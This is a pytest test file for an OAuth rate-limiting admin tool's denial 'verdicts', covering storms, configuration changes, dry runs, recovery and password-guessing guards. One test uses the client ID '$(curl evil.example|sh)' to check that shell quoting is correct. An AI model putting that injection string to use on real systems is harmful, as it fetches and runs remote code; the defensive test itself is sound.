"""Verdicts: each part of the sentence, and a case in which it is not so."""

from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import pytest

from oauth_ratelimit.admin.present import judge_all, severity
from oauth_ratelimit.admin.verdict import Case, Verdict, judge
from oauth_ratelimit.core.denial_record import Denial, DenialRecord, Trace
from oauth_ratelimit.core.failed_auth import ANYONE
from oauth_ratelimit.core.policy import LimitKind
from oauth_ratelimit.core.statistics import (
    NO_REQUESTS,
    ClientMinute,
    ClientTotal,
    Denials,
    Source,
    Tally,
    UserLoad,
)
from oauth_ratelimit.operations.format import utc_time
from oauth_ratelimit.operations.marks import Mark
from oauth_ratelimit.store.mongo.rollups import Present
from testbed.clock import Clock
from tests.admin.conftest import minute as a_minute

NOW_S = Clock().now_s // 60 * 60 + 45.0
BEGUN_S = int(NOW_S) - 325  # twenty seconds after the start of a minute
DAY_S = 86_400


def minute(ago: int, *, grant: str = "client_credentials", kind: Any = "client", **more: Any) -> ClientMinute:
    """Return a minute of the client, so many minutes ago."""
    known = {"policy": "total-hour", "limit": 6000, "window_s": 3600, "share": 0.2, **more}
    return a_minute(ago, "batch-jobs", source=Source(kind, grant), now_s=NOW_S, begun_s=BEGUN_S, **known)


def storm(minutes: Sequence[ClientMinute] = (), **more: object) -> Case:
    """Return a client with ten requests a second since 325 s ago, at a limit of 100 a minute, unusual for it, alone."""
    denied = [minute(ago, allowed=100, denied=500) for ago in range(5, 0, -1)] + [minute(0, allowed=75, denied=375)]
    known = {"client_id": "batch-jobs", "usual": 10.0, "others_active": 211}
    changes = [Mark(NOW_S - 3 * DAY_S, "configuration: limits.user: 5/hour → 6/hour (node-1)")]
    known |= {"kinds": {"total-hour": LimitKind.CLIENT_TOTAL}, "changes": changes}
    return Case(NOW_S, minutes=minutes or denied, **{**known, **more})  # type: ignore[arg-type]


def text_of(case: Case) -> str:
    found = judge(case)
    return " ".join(filter(None, (found.lead, found.why, found.action, *found.details)))


def test_storm_of_one_client_is_told_in_one_sentence_and_its_reasons() -> None:
    begun, changed = utc_time(BEGUN_S), utc_time(NOW_S - 3 * DAY_S)

    assert Verdict(
        "denied",
        f"Denied since {begun} by the limit total-hour (6000/hour), client_credentials.",
        "Raise, Trust or Dry run on its page: the preview says what helps.",
        "The cause is the client's load: 6 times the limit, 60 times its usual in the last full minute.",
        [
            "",
            "In the last full minute 500 of 600 requests were denied, 500 in the minute before.",
            "Nobody else is affected (211 other clients with requests).",
            f"The configuration has not changed since {changed}.",
        ],
        begun,
    ) == judge(storm())


LINES = ("limits.client[client]: 60/minute → 1/hour", "limits.client_total[total-hour]: 9 → 6")
TWO_LINES = Mark(BEGUN_S - 40, f"configuration: {LINES[0]} and 1 other change (first seen by node-1)", lines=LINES)


def of_minutes(**options: object) -> list[ClientMinute]:
    return [minute(ago, **options) for ago in range(5, -1, -1)]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("case", "said", "not_said"),
    [
        (storm(is_beyond=True), f"Denied since before {utc_time(BEGUN_S)}", f"since {utc_time(BEGUN_S)}"),
        (storm(of_minutes(would_deny=9)), "Requests would be denied (dry run) since", "Denied since"),
        (storm(of_minutes(denied=9, policy="client")), "by the limit client (6000/hour)", "total-hour"),
        (storm(of_minutes(denied=9, limit=40, window_s=5)), "(40/5s)", "6000/hour"),
        (storm(of_minutes(denied=9, kind="user", grant="password")), "password", "client_credentials"),
        (storm(of_minutes(denied=2, allowed=60)), "times its usual", "times the limit"),
        (storm(of_minutes(denied=100, would_reuse=93)), "Reuse would have spared 93 % of these.", "no reuse"),
        (storm(of_minutes(denied=100)), "requests were denied", "Reuse"),
        (
            storm([minute(1, allowed=27, reused=93)]),
            f"denied: since {utc_time(NOW_S // 60 * 60 - 60)} 93 of 120 requests got the token that the client had.",
            "Near",
        ),
        (
            storm(
                [
                    minute(30, reused=9),
                    minute(9, reused=8),
                    minute(7, allowed=5),
                    minute(6, reused=1),
                    minute(0, allowed=4),
                ]
            ),
            f"from {utc_time(NOW_S // 60 * 60 - 540)} to {utc_time(NOW_S // 60 * 60 - 300)} 9 of 14 requests got",
            "Over its limit",
        ),
        (storm(kinds={}), "Denied since", "times the limit"),
        (storm(usual=590.0), "no more than usual", "its usual"),
        (storm(of_minutes(denied=38)), "all 38 requests were denied", "38 of "),
        (storm(of_minutes(denied=1)), "1 of 1 request was denied", "all 1"),
        (storm(of_minutes(would_deny=9), usual=None), "Before you enforce: Raise or Trust on its page", "Dry run on"),
        (storm(others_over=3), "3 of 211 other clients are denied, too.", "Nobody else"),
        (storm(others_active=0), "No other client sends requests.", "Nobody else"),
        (storm(others_over=150), "on our side. Look at limits and instances first; to deny", "the client's load"),
        (storm(changes=[]), "No change of the configuration is recorded.", "has not changed"),
        (
            storm(changes=[Mark(BEGUN_S - 40, "limits.client: 9000/minute → 120/minute")]),
            "on our side: changed 40 s before it began: limits.client: 9000/minute → 120/minute. Look at that change",
            "the client's load",
        ),
        (
            storm(changes=[TWO_LINES]),
            "configuration: limits.client_total[total-hour]: 9 → 6 and 1 other change (first seen by node-1). Look at",
            "limits.client[client]",
        ),
        (
            storm(outages=[Mark(BEGUN_S - 40, "", apart=3)]),
            f"an outage of MongoDB until {utc_time(BEGUN_S - 40)}: 3 hosts counted apart",
            "The cause is the client's load",
        ),
        (
            storm(outages=[Mark(BEGUN_S - 900, "", apart=3), Mark(BEGUN_S + 9, "", apart=3)]),
            "The cause is the client's load",
            "outage",
        ),
        (
            storm(changes=[Mark(BEGUN_S + 90, "client limit of batch-jobs: 800/minute (ann)")]),
            f"Changed since it began, at {utc_time(BEGUN_S + 90)}: client limit of batch-jobs: 800/minute (ann).",
            "has not changed",
        ),
        (
            storm(changes=[Mark(BEGUN_S + 90, "client limit of batch-jobs: 120/minute (ann)")], delay_s=2.0),
            "In full minutes 500 of 600 requests were over a limit before it, 1,500 of 1,800 since then.",
            "has not changed",
        ),
        (
            storm([minute(3, denied=9, limit=60, window_s=60), minute(0, denied=9, limit=80, window_s=60)]),
            "by the limit total-hour (60/minute, now 80/minute), client_credentials.",
            "then",
        ),
        (storm(usual=500.0), "the limit may be too low for it", "the client's load"),
        (storm(usual=None), "Look at this client first: it sent 6 times the limit in the last full minute.", "usual"),
        (storm(usual=None), "this client first", "on our side"),
        (storm(usual=None, others_over=1), "1 of 211 other clients is denied", "this client first"),
        (storm(usual=None, others_active=2), "Nobody else is affected", "this client first"),
        (
            storm(of_minutes(denied=30)[:-1]),
            f"all 30 requests were denied, 30 in the minute before; the last at {utc_time(int(NOW_S) - 46)}.",
            "its last denial",
        ),
        (
            storm(of_minutes(denied=110, policy="guard/password", grant="guard:password", limit=20, window_s=600)),
            "by the limit password (20/10m), the guard against guessing (password)",
            "times the limit",
        ),
        (storm(of_minutes(denied=9, grant="guard:password")), "it need not be this client", "the client's load"),
        (storm([minute(1, denied=9, grant="guard:user"), minute(0, allowed=1, would_reuse=5)]), "Guesses", "Reuse"),
        (
            storm(of_minutes(denied=9, grant="guard:user"), guesses=["alice from 192.0.2.7"]),
            "Guesses under batch-jobs are denied (alice from 192.0.2.7). Denied since",
            "Raise",
        ),
        (
            storm([minute(1, allowed=60, would_deny=20), minute(0, allowed=15, denied=5)]),
            f"Since {utc_time(int(NOW_S) - 45)} 5 of 20 requests were denied.",
            "In the last full minute",
        ),
        (storm([minute(1, denied=8, reused=2)]), "8 of 10 requests were denied, 2 got their token again, none in", "X"),
        (
            storm(of_minutes(denied=551, policy="revocation/client", grant="endpoint:revocation")),
            "by the limit revocation/client (6000/hour), at revocation.",
            "client_credentials",
        ),
        (storm(is_trusted=True, minutes=[minute(1, allowed=5)]), "Trusted: never denied. 5 requests", "Within"),
        (storm(is_unknown=True, minutes=[minute(1)]), "Unknown", "Denied"),
        (storm([minute(1, allowed=5, share=0.92)]), "Near its limit. Highest use in the last hour: 92 %", "Within"),
        (storm([minute(1, allowed=5)]), "Within its limits. Highest use in the last hour: 20 % of total-hour", "Near"),
        (storm([minute(1)]), "No requests are recorded in the last hour.", "Within"),
        (storm([minute(1, allowed=5)], nearest=(1.2, "12 hits")), "At its limit now: 12 hits.", "Within"),
        (
            storm([minute(1, allowed=5)], nearest=(1.2, "12 hits"), is_dry_run=True),
            "a dry run denies nobody. Before you enforce: Raise or Trust if that is not meant",
            "Dry run",
        ),
        (
            storm([minute(1, allowed=5), minute(0, share=0.5)]),
            "Within its limits. Highest use in the last hour: 50 % of total-hour (6000/hour)",
            "20 %",
        ),
        (
            storm([minute(1, allowed=5, share=0.92), minute(0, share=0.5, limit=12_000)]),
            "Within its limits. Highest use in the last hour: 92 % of total-hour (6000/hour)",
            "Near",
        ),
        (
            storm(of_minutes(would_deny=9, grant="guard:user", kind="user"), client_id=ANYONE),
            "Honest users or clients there would be denied, too. Nothing to do now: a dry run denies nobody. Before",
            "are denied",
        ),
        (storm([minute(1, reused=5)], nearest=(1.2, "12 hits")), "Over a limit, and not denied: since", "At its limit"),
    ],
    ids=lambda value: value[:60] if isinstance(value, str) else "",
)
def test_each_part_of_a_verdict_is_said_only_if_it_is_so(case: Case, said: str, not_said: str) -> None:
    assert said in text_of(case)
    assert not_said not in text_of(case)


def of_users(ago: int, **denied: int) -> ClientMinute:
    """Return a minute in which users made ten requests each, of which some were denied."""
    users = tuple(UserLoad(name, 10, count) for name, count in denied.items())
    known = minute(ago, allowed=9, denied=sum(denied.values()), policy="user", kind="user", grant="password")
    return replace(known, users=users, registers=dict.fromkeys(range(len(denied)), 1))


def test_one_user_who_is_denied_is_named_and_not_the_client() -> None:
    others = {"alice": 0, "bob": 0, "cleo": 0, "dave": 0, "eve": 0}
    minutes = [of_users(ago, mallory=9, **others) for ago in range(5, 0, -1)]
    found = judge(storm(minutes, kinds={"user": LimitKind.USER}))

    subject = "1 user of batch-jobs is denied (mallory); 5 others are not."
    assert (subject, f"{subject} Denied since {utc_time(BEGUN_S)} by the limit user (6000/hour), password.") == (
        found.subject,
        found.lead,
    )
    since, until = utc_time(minute(5).minute_s), utc_time(minute(0).minute_s)
    assert f"mallory sent 50 requests from {since} to {until}, 45 of them over the limit." == found.why
    overview = judge_all(present(5, 1, 1), found)
    assert f"Since {utc_time(BEGUN_S)} {subject[:-1]}:" == overview.lead
    assert "".join(overview.details).startswith("Denied since"), "the lead has the subject already"
    everybody = [of_users(ago, mallory=9, alice=9) for ago in range(5, 0, -1)]
    assert not judge(storm(everybody, kinds={"user": LimitKind.USER})).subject
    assert not judge(storm(minutes)).subject, "a limit of the client"
    most = judge(storm(minutes, kinds={"user": LimitKind.USER}, others_over=150))
    assert "Most clients are affected: look for the cause on our side." == most.why


def test_users_that_a_dry_run_would_deny_are_named_and_the_numbers_of_their_client_are_called_so() -> None:
    minutes = []
    for before in range(5, 0, -1):
        found = of_users(before, mallory=9, alice=0)
        denials = {(policy, grant, "would_deny"): each for (policy, grant, _), each in found.denials.items()}
        users = (UserLoad("mallory", 10, 0, 9), UserLoad("alice", 10))
        tallies = {Source("user", "password"): Tally(allowed=11, would_deny=9)}
        minutes.append(replace(found, denials=denials, users=users, tallies=tallies))
    found = judge(storm(minutes, kinds={"user": LimitKind.USER}))

    subject = "1 user of batch-jobs would be denied (mallory); 1 other would not."
    since = utc_time(BEGUN_S)
    assert f"{subject} Requests would be denied (dry run) since {since} by the limit user (6000/hour), password." == (
        found.lead
    )
    assert "In the last full minute 9 of 20 requests of batch-jobs would have been denied" in found.details[1]
    assert "look at this user first: Raise and Trust would change it for all users" in found.action
    assert f"Nobody is denied. Since {since} {subject[:-1]}:" == judge_all(present(5, 0, 1), found).lead


def of_mallory(ago_s: int, count: int = 9) -> DenialRecord:
    at_s = NOW_S - ago_s
    first = Denial("7", at_s, "batch-jobs", "mallory", None, "password", "user", 10, 60, "enforce", False, 1.0, Trace())
    return DenialRecord(first, "node-1:7:aa", at_s, count - 1)


def test_user_who_is_denied_is_named_before_the_minute_is_over_and_has_users() -> None:
    begun = of_users(0, mallory=9)
    begun_s = int(NOW_S) - 9
    denials = {key: each._replace(first_s=begun_s) for key, each in begun.denials.items()}
    now = replace(begun, users=(), registers={}, denials=denials)
    case = storm([of_users(1, alice=0, bob=0), now], kinds={"user": LimitKind.USER}, records=[of_mallory(5)])

    assert "1 user of batch-jobs is denied (mallory); 1 other is not." == judge(case).subject
    assert "mallory: 9 requests over the limit since" in judge(case).why
    first = replace(case, minutes=[now])
    assert "1 user of batch-jobs is denied (mallory)." == judge(first).subject, "nobody else is known yet"
    assert not judge(replace(first, records=())).subject


def test_recovery_is_judged_by_the_requests_of_those_who_were_denied() -> None:
    past = [of_users(ago, mallory=9, alice=0) for ago in (5, 4)]
    others = [replace(of_users(ago, alice=0), denials={}) for ago in (2, 1)]
    kinds = {"user": LimitKind.USER}
    until = utc_time(past[-1].minute_s + 59)
    waits = "no such request in a full minute since then: it may be waiting."
    mine = [replace(of_users(3, mallory=0), denials={})]

    assert f"Last denied at {until} (mallory); {waits}" == judge(storm([*past, *others], kinds=kinds)).lead
    again = judge(storm([*past, *mine, *others], kinds=kinds)).lead
    assert f"Not denied any more (mallory): 10 requests since {until}, none over a limit." == again
    refreshed = [minute(ago, allowed=40, kind="user", grant="refresh_token") for ago in (2, 1)]
    assert waits in judge(storm([minute(ago, denied=9) for ago in (5, 4)] + refreshed)).lead, "another grant"
    guessed = [minute(5, denied=9, grant="guard:user"), minute(2, allowed=40)]
    lead = judge(storm(guessed, guesses=["alice from 192.0.2.7"])).lead
    assert "The guard denied guesses until" in lead and "(alice from 192.0.2.7)" in lead and "40" not in lead


@pytest.mark.parametrize(
    ("client_id", "argument"),
    [
        ("app", "app"),
        (ANYONE, "'*'"),
        ("$(curl evil.example|sh)", "'$(curl evil.example|sh)'"),
        ("long-" * 20, "long-" * 20),
    ],
    ids=["plain", "anyone", "a command", "long"],
)
def test_command_that_lists_guesses_has_the_whole_name_quoted_for_a_shell(client_id: str, argument: str) -> None:
    """Anybody can have guesses denied under a name of their own."""
    guesses = storm([minute(0, denied=9, grant="guard:client_secret")], client_id=client_id)
    assert f" denials {argument} --where guard lists them." in judge(guesses).action


def test_denials_under_a_limit_that_was_raised_and_lowered_again_begin_with_the_second_change() -> None:
    """The first change has ended the former ones; a single change, or denials that go on, are one storm."""
    start_s = int(NOW_S) // 60 * 60

    def denied(first_s: int, last_s: int, limit: int) -> ClientMinute:
        spans = {("client", "client_credentials", "denied"): Denials(40, first_s, last_s, limit, 60)}
        tally = {Source("client", "client_credentials"): Tally(60, denied=40)}
        return ClientMinute("batch-jobs", first_s // 60 * 60, tally, denials=spans)

    raised, lowered = Mark(start_s - 76, "client limit 200/minute"), Mark(start_s - 44, "client limit 20/minute")
    minutes = [
        denied(start_s - 96, start_s - 75, 60),
        denied(start_s - 43, start_s - 1, 20),
        denied(start_s, start_s + 44, 20),
    ]
    found = judge(storm(minutes, changes=[raised, lowered], kinds={}))
    assert utc_time(start_s - 43) == found.since
    assert "The cause may be on our side: changed 1 s before it began: client limit 20/minute." == found.why
    assert "now" not in found.lead

    assert utc_time(start_s - 96) == judge(storm(minutes, changes=[lowered], kinds={})).since
    slow = storm(minutes, changes=[raised, lowered], kinds={}, delay_s=40.0)
    assert utc_time(start_s - 96) == judge(slow).since, "the first change has had no effect yet"
    goes_on = [denied(start_s - 96, start_s - 50, 60), *minutes[1:]]
    assert utc_time(start_s - 96) == judge(storm(goes_on, changes=[raised, lowered], kinds={})).since


def test_limit_that_no_longer_denies_is_not_named() -> None:
    raised = [minute(ago, denied=60, policy="client-60s", limit=60, window_s=60) for ago in (5, 4)]
    other = [minute(ago, denied=9, policy="client-600s", limit=500, window_s=600) for ago in range(3, -1, -1)]

    lead = judge(storm([*raised, *other])).lead
    assert f"Denied since {utc_time(BEGUN_S)} by the limit client-600s (500/10m), client_credentials." == lead


def test_numbers_are_those_of_a_full_minute_at_any_second() -> None:
    """A steady client sends the same at any time, and its minute ends where the data ends."""
    minutes = [minute(ago, allowed=60, denied=179) for ago in range(9, 0, -1)]
    for at_s in range(0, 60, 6):
        last = minutes[-1:] if at_s >= 12 else [minute(1, allowed=51, denied=150)]  # not yet written in full
        case = replace(storm([*minutes[:-1], *last, minute(0, allowed=1, denied=at_s)]), now_s=NOW_S // 60 * 60 + at_s)
        assert "In the last full minute 179 of 239 requests were denied" in text_of(case)


def test_two_limits_that_deny_are_both_named() -> None:
    both = minute(0, denied=400, policy="client-minute", limit=120, window_s=60)
    other = minute(0, denied=200)
    merged = ClientMinute("a", both.minute_s, both.tallies, denials={**both.denials, **other.denials})

    assert (
        "by the limit client-minute (120/minute), client_credentials and by the limit total-hour (6000/hour)"
        in text_of(storm([merged]))
    )


def switched(*spans: tuple[str, int, int]) -> list[ClientMinute]:
    """Return denials of one a second by outcome, from and to seconds ago."""
    found: dict[int, dict[tuple[str, str, str], Denials]] = {}
    for over, from_s, to_s in spans:
        for second in range(int(NOW_S) - from_s, int(NOW_S) - to_s + 1):
            key, denials = ("total-hour", "client_credentials", over), found.setdefault(second // 60 * 60, {})
            known = denials.get(key, Denials(0, second, second, 6000, 3600))
            denials[key] = known._replace(total=known.total + 1, last_s=second)
    return [ClientMinute("batch-jobs", at_s, denials=denials) for at_s, denials in found.items()]


def ago(seconds: int) -> str:
    return utc_time(int(NOW_S) - seconds)


def test_denials_after_a_pause_of_ten_minutes_begin_anew() -> None:
    for before, begun in ((1141, 540), (1140, 1200)):
        minutes = switched(("denied", 1200, before), ("denied", 540, 530), ("denied", 5, 0))
        assert f"Denied since {ago(begun)}" in text_of(storm(minutes))


@pytest.mark.parametrize(
    ("first", "times", "said", "not_said"),
    [
        (
            "would_deny",
            (170, 70),
            ["Denied since 70", "dry run) from 170 to 71", "on our side: changed 0 s before"],
            "X",
        ),
        (
            "denied",
            (290, 150),
            ["(dry run) since 150", "Denied from 290 to 151", "Changed since it began"],
            "on our side",
        ),
        ("would_deny", (300, 200, 80), ["(dry run) since 80"], "(dry run) since 300"),
        ("would_deny", (300, 100, 30), ["(dry run) since 30"], "(dry run) since 300"),
        ("would_deny", (300, 44, 15), ["(dry run) since 16"], "(dry run) since 300"),
    ],
    ids=["end", "beginning", "again", "again, across a full minute", "again, within a minute"],
)
def test_dry_run_and_denials_have_times_of_their_own(
    first: str, times: tuple[int, ...], said: list[str], not_said: str
) -> None:
    """The end of a dry run is a cause, its beginning is none."""
    outcomes = [first, "denied" if first == "would_deny" else "would_deny", first]
    spans = [(over, at, end + 1) for over, at, end in zip(outcomes, times, (*times[1:], -1), strict=False)]
    changes = [Mark(int(NOW_S) - at, "mode: another one") for at in times[1:]]
    text = text_of(storm(switched(*spans), changes=changes))
    for at in range(300, -1, -1):
        text = text.replace(ago(at), str(at))

    assert [] == [words for words in said if words not in text], text
    assert not_said not in text


def test_dry_run_after_denials_has_a_time_of_its_own_even_if_no_change_is_recorded() -> None:
    spans = switched(("would_deny", 300, 201), ("denied", 200, 81), ("would_deny", 80, 0))
    text = text_of(storm(spans, changes=[]))
    assert f"(dry run) since {ago(80)}" in text and f"(dry run) since {ago(300)}" not in text, text


def test_mode_is_no_cause_of_requests_that_a_dry_run_would_deny() -> None:
    """Limits were enforced for a while: the requests over them were there before, and are after."""
    modes = [
        Mark(NOW_S - at, f"mode {mode} for everybody (ann)", is_mode=True)
        for at, mode in ((201, "enforce"), (41, "dry-run"))
    ]
    spans = (("would_deny", 300, 202), ("denied", 200, 42), ("would_deny", 40, 0))
    found = judge(storm(switched(*spans), changes=modes))
    assert ("dry-run", False) == (found.kind, "on our side" in found.why), found

    enforced = judge(storm(switched(*spans[:2]), changes=modes[:1]))
    assert ("denied", True) == (enforced.kind, "on our side: changed 1 s before it began: mode enforce" in enforced.why)


def test_denials_count_until_the_change_that_ended_them() -> None:
    """What a change does is known when instances have written their numbers."""
    change = Mark(NOW_S - 12, "client limit total-hour: 9000/hour for batch-jobs (ann)")

    def found(minutes: list[ClientMinute], changed: Mark = change) -> Verdict:
        return judge(storm(minutes, changes=[changed], delay_s=2.0))

    assert f"Its effect shows from {utc_time(NOW_S + 2)} on" in found(switched(("denied", 99, 11))).lead
    assert "denied" == found(switched(("denied", 99, 9))).kind, "not since the change"
    earlier = change._replace(at_s=NOW_S - 17)
    helped = found(switched(("denied", 99, 16)), earlier)
    assert ("recovered", "Nothing to do.") == (helped.kind, helped.action)
    assert f"Not denied since the change at {ago(17)}: client limit" in helped.lead
    undone = Mark(NOW_S - 3, "override removed, client limit for batch-jobs (ann)")
    text = judge(storm(switched(("denied", 99, 16)), changes=[earlier, undone], delay_s=2.0)).lead
    assert text.endswith(f" (ann). Changed again at {ago(3)}: {undone.text}."), "or it seems to apply still"
    assert LINES[1] in found(switched(("denied", 99, 16)), TWO_LINES._replace(at_s=NOW_S - 17)).lead
    assert "dry-run" == found(switched(("denied", 99, 16), ("would_deny", 15, 0)), earlier).kind
    assert "denied" == found(switched(("denied", 16, 15)), earlier).kind, "the change began it"
    again = [earlier._replace(at_s=NOW_S - 40), change._replace(at_s=NOW_S - 1)]
    case = storm(switched(("denied", 99, 40), ("would_deny", 39, 0)), changes=again, delay_s=2.0)
    assert f"Requests would have been denied (dry run) from {ago(39)} to {ago(0)}" in text_of(case)


def test_client_that_is_admitted_again_has_recovered() -> None:
    past = [minute(ago, denied=9) for ago in (5, 4)]
    until = utc_time(past[-1].minute_s + 59)
    found = judge(storm([*past, minute(2, allowed=40), minute(1, allowed=2)]))

    assert ("recovered", f"Not denied any more: 42 requests since {until}, none over a limit.") == (
        found.kind,
        found.lead,
    )
    assert f"Denied from {utc_time(BEGUN_S)} to {until} by the limit total-hour (6000/hour)" in found.details[0]
    assert "it may be waiting" in text_of(storm(past)), "it has sent nothing since then"
    assert "Last over a limit at" in text_of(storm([minute(5, would_deny=9)])), "a dry run has denied nothing"


def total(
    name: str, token: Tally = NO_REQUESTS, elsewhere: Tally = NO_REQUESTS, guard: Tally = NO_REQUESTS
) -> ClientTotal:
    return ClientTotal(name, token, elsewhere, guard)


def present(
    active: int, denied: int, over: int, *, guessed: Sequence[str] = (), requests: Tally = NO_REQUESTS
) -> Present:
    """Return the last full minute, with so many clients."""
    totals = [total(name, guard=Tally(denied=1)) for name in guessed]
    return Present(requests, NO_REQUESTS, True, int(NOW_S) - 45, active, denied, over, totals, set(guessed))


WORST, HELPED, DRY_RUN = (Verdict(kind, "", "Look.", since="X") for kind in ("denied", "recovered", "dry-run"))
GUESSED = WORST._replace(subject="Guesses under app are denied (192.0.2.7).")
REUSED = present(3, 0, 0, requests=Tally(81, reused=385))


@pytest.mark.parametrize(
    ("minute", "worst", "kind", "text"),
    [
        (present(0, 0, 0), None, "idle", f"No requests are recorded since {ago(45)}."),
        (present(9, 0, 0), None, "ok", f"Nobody is denied now among 9 clients with requests since {ago(45)}."),
        (present(9, 0, 0), HELPED, "ok", f"since {ago(45)}. All 9 clients were denied, the last one:"),
        (present(9, 0, 2), DRY_RUN, "dry-run", "2 of 9 clients would be, in a dry run, the worst since X:"),
        (present(9, 1, 3), WORST, "denied", "1 of 9 clients is denied now, since X:"),
        (present(9, 9, 9), WORST, "denied", "All 9 clients are denied now, the worst since X:"),
        (present(9, 1, 1), Verdict("changed", "Changed.", "Wait."), "changed", "Changed. Over a limit until now:"),
        (present(3, 1, 1, guessed=["app"]), GUESSED, "near", "Since X guesses under app are denied (192.0.2.7):"),
        (REUSED, None, "near", "; 385 requests over a limit got their token again, most:"),
    ],
)
def test_verdict_on_all_clients_counts_those_that_are_denied(
    minute: Present, worst: Verdict | None, kind: str, text: str
) -> None:
    """Guesses and reuse make no denied client."""
    found = judge_all(minute, worst, together="All 9 clients were denied")
    assert (kind, True) == (found.kind, found.lead.endswith(text)), found


def test_verdict_on_all_clients_does_not_pass_off_the_worst_one_as_all() -> None:
    worst = WORST._replace(lead="Denied since X.", details=["In the last full minute all 9 were denied."])
    of_all, of_worst, *_ = filter(None, judge_all(present(9, 9, 9, requests=Tally(10, 90)), worst).details)
    assert "In the last full minute 90 of all 100 requests were denied." == of_all
    assert "The worst: Denied since X." == of_worst


def test_worst_client_is_the_one_to_which_enforcement_does_most() -> None:
    ordered = [
        total("gets nothing", Tally(denied=30)),
        total("gets nothing elsewhere", elsewhere=Tally(denied=20)),
        total("most", Tally(100, 900)),
        total("asked once", Tally(denied=1)),
        total("some", Tally(900, 300)),
        total("2 % of a large one", Tally(98_000, 2000)),
        total("dry run", Tally(would_deny=50_000)),
        total("guessed at", guard=Tally(denied=9999)),
        total("fine", Tally(77)),
    ]
    assert ordered == sorted([*ordered[4:], *ordered[:4]], key=severity)
